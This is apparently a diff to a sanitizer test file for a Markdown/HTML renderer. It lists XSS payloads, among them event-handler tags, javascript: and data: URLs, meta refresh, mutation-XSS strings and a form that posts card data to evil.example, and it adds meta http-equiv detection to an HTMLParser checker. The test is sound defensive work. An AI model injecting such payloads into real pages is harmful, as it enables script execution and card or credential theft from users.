@@ -4,11 +4,11 @@ from html.parser import HTMLParser
 
 PAYLOADS = [
     "<script>window.__xss=1</script>",
-    "<img src=x onerror=\"window.__xss=1\">",
-    "<svg onload=\"window.__xss=1\"></svg>",
-    "<div onclick=\"window.__xss=1\">click</div>",
-    "<details open ontoggle=\"window.__xss=1\"><summary>x</summary></details>",
-    "\"><script>window.__xss=1</script>",
+    '<img src=x onerror="window.__xss=1">',
+    '<svg onload="window.__xss=1"></svg>',
+    '<div onclick="window.__xss=1">click</div>',
+    '<details open ontoggle="window.__xss=1"><summary>x</summary></details>',
+    '"><script>window.__xss=1</script>',
     "'><img src=x onerror=window.__xss=1>",
     "[click](javascript:window.__xss=1)",
     "[click](JaVaScRiPt:window.__xss=1)",
@@ -17,16 +17,16 @@ PAYLOADS = [
     "[click](vbscript:msgbox(1))",
     "![x](javascript:window.__xss=1)",
     "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
-    "<iframe src=\"javascript:window.__xss=1\"></iframe>",
-    "<object data=\"javascript:window.__xss=1\"></object>",
-    "<form action=\"https://evil.example/\"><input name=\"card\"><button>Pay</button></form>",
+    '<iframe src="javascript:window.__xss=1"></iframe>',
+    '<object data="javascript:window.__xss=1"></object>',
+    '<form action="https://evil.example/"><input name="card"><button>Pay</button></form>',
     "<style>body{display:none}</style>",
-    "<a href=\"#\" style=\"position:fixed;inset:0\">overlay</a>",
+    '<a href="#" style="position:fixed;inset:0">overlay</a>',
     "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
-    "::: warning \"><script>window.__xss=1</script>\ntext\n:::",
-    "[x](exercise:\"onmouseover=window.__xss=1)",
-    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__xss=1\">",
-    "<base href=\"javascript:window.__xss=1//\">",
+    '::: warning "><script>window.__xss=1</script>\ntext\n:::',
+    '[x](exercise:"onmouseover=window.__xss=1)',
+    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
+    '<base href="javascript:window.__xss=1//">',
     "</script><script>window.__xss=1</script>",
     "<!--<script>window.__xss=1</script>-->",
 ]
@@ -49,10 +49,14 @@ class ActiveContent(HTMLParser):
                 self.problems.append(f"<{tag} {name}>")
             if name == "style":
                 self.problems.append(f"<{tag} style>")
+            if name == "content" and not attrs.get("http-equiv"):
+                continue  # a plain <meta content> is text; only a refresh header can navigate
             if name in ("href", "src", "action", "formaction", "data", "content") and value:
                 lowered = "".join(value.split()).lower()
                 if lowered.startswith(("javascript:", "data:", "vbscript:")) or "url=javascript" in lowered:
                     self.problems.append(f"<{tag} {name}={value!r}>")
+        if tag == "meta" and attrs.get("http-equiv"):
+            self.problems.append(f"<meta http-equiv={attrs['http-equiv']!r}>")
         if tag in FORBIDDEN_TAGS and not (self.page and self._allowed_on_page(tag, attrs)):
             self.problems.append(f"<{tag}>")
 
